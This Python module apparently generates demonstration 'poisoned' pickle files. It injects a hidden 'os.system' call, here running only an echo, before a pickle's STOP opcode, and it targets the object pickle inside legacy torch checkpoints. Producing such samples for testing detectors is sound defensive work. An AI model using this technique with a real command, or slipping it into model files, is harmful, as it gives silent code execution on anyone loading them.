"""The poisoned twins: one call more than their honest twins, and all it would do is `echo`."""

from __future__ import annotations

import pickletools

from tools.demo_files import opcodes as op

WORDS = "echo this could have been any command"
PAYLOAD = op.call(op.named("posix", "system"), op.text(WORDS)) + op.POP
"""`os.system(WORDS)`, its result thrown away: loaders return the same object as before and nobody notices."""


def stream(pickled: bytes) -> bytes:
    """Put the call before the STOP of a pickle, where a loader has everything else in hand."""
    if not pickled.endswith(op.STOP):
        raise ValueError("the pickle does not end with STOP")
    return pickled[:-1] + PAYLOAD + op.STOP


def legacy_checkpoint(content: bytes) -> bytes:
    """Poison the fourth of the five pickles of an old torch file: the object itself (``torch/serialization.py``).

    Only opcodes are walked; `pickletools` loads nothing.
    """
    start = end = 0
    for _ in range(4):
        start = end
        for opcode, _, place in pickletools.genops(content[start:]):
            if opcode.name == "STOP":
                end = start + (place or 0) + 1
    return content[:start] + stream(content[start:end]) + content[end:]
